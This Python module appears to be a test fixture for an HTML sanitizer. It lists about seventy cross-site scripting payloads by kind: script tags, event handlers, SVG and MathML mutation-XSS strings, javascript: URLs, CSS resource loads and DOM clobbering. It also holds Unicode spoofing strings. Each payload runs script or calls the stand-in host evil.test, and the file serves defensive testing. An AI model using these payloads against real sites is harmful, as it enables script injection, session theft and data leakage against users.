"""What an attacker would write: every known way to run a script or to call home, by its kind.

Each sets `__pwned` or asks `evil.test`, so that a browser that obeyed would show it. Written from
the OWASP cheat sheet on filter evasion, the HTML standard's parsing rules, and what has been told
of mutation XSS (Heiderich et al., "mXSS Attacks", 2013).
"""

from collections.abc import Sequence

_RUN = "window.__pwned=1;fetch(`//evil.test/ran`)"
_CALL = "http://evil.test/called"

SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script/x>{_RUN}</script >",
    f"<script src={_CALL}.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    f"<template><script>{_RUN}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror='{_RUN}'></template></div>",
)
HANDLERS = (
    f"<img src=x onerror='{_RUN}'>",
    f'<img src=x:x onerror="{_RUN}">',
    f"<image/src=x/onerror='{_RUN}'>",
    f"<body onload='{_RUN}'>",
    f"<details open ontoggle='{_RUN}'><summary>s</summary></details>",
    f"<input autofocus onfocus='{_RUN}'>",
    f"<select autofocus onfocus='{_RUN}'></select>",
    f"<video><source onerror='{_RUN}'></video>",
    f"<audio src=x onerror='{_RUN}'></audio>",
    f"<marquee onstart='{_RUN}'>m</marquee>",
    f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart='{_RUN}'>a</p>",
    f"<p tabindex=1 onfocus='{_RUN}' autofocus>focus</p>",
    f"<a onpointerover='{_RUN}' style='position:fixed;inset:0'>over</a>",
)
FOREIGN = (
    f"<svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin='{_RUN}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>t</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror='{_RUN}'></foreignObject></svg>",
    f"<svg><image href='{_CALL}'></image></svg>",
    f"<svg><style>*{{background:url({_CALL})}}</style></svg>",
    f"<math><mtext><img src=x onerror='{_RUN}'></mtext></math>",
    f"<math href='javascript:{_RUN}'>CLICK</math>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>"
    ),
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror='{_RUN}'>",
    f"<svg><desc><svg></desc><img src=x onerror='{_RUN}'></svg>",
)
ADDRESSES = (
    f"<a href='javascript:{_RUN}'>link</a>",
    f"<a href='java&#x09;script:{_RUN}'>tab</a>",
    f"<a href=' &#14; javascript:{_RUN}'>control</a>",
    f"<a href='vbscript:{_RUN}'>basic</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>data</a>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<iframe src='{_CALL}'></iframe>",
    f"<object data='{_CALL}'></object>",
    f"<embed src='{_CALL}'>",
    f"<meta http-equiv=refresh content='0;url={_CALL}'>",
    f"<base href='{_CALL}/'><img src=relative>",
    f"<link rel=stylesheet href='{_CALL}.css'>",
    f"<link rel=prefetch href='{_CALL}'><link rel=dns-prefetch href='//evil.test'>",
    f"<form action='{_CALL}'><button autofocus>go</button></form>",
    f"<form id=f></form><button form=f formaction='javascript:{_RUN}'>go</button>",
)
STYLES = (
    f"<style>@import url({_CALL}.css);</style>",
    f"<style>body{{background:url({_CALL})}}</style>",
    f"<p style='background:url({_CALL})'>p</p>",
    f"<p style='background-image:image-set(\"{_CALL}\" 1x)'>set</p>",
    f"<style>@font-face{{font-family:x;src:url({_CALL})}}p{{font-family:x}}</style><p>f</p>",
    f"<img srcset='{_CALL} 1x, {_CALL} 2x'>",
    f"<picture><source srcset='{_CALL}'><img src='{_CALL}'></picture>",
    f"<video poster='{_CALL}'></video>",
    f"<table background='{_CALL}'><tr><td>t</table>",
    f"<img src='{_CALL}' width=1 height=1>",
)
NAMES = (
    "<form id=createElement><input name=querySelector><img name=body>",
    "<a id=window><a id=window name=__pwned href=x>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "$t(shell:nobody) {{name}} %(name)s",
    "__proto__",
)

ALL: Sequence[str] = SCRIPTS + HANDLERS + FOREIGN + ADDRESSES + STYLES + NAMES

LONG = "Ы" * 10_000
RIGHT_TO_LEFT = "\u202e\u2066\u2067" + "gpj.exe" * 20 + "\u05d0\u05d1" * 30
ZERO_WIDTH = "\u200b\u200d\ufeff\u2060" * 200 + "Z" + "\u0301" * 200
TRICKS = (LONG, RIGHT_TO_LEFT, ZERO_WIDTH)
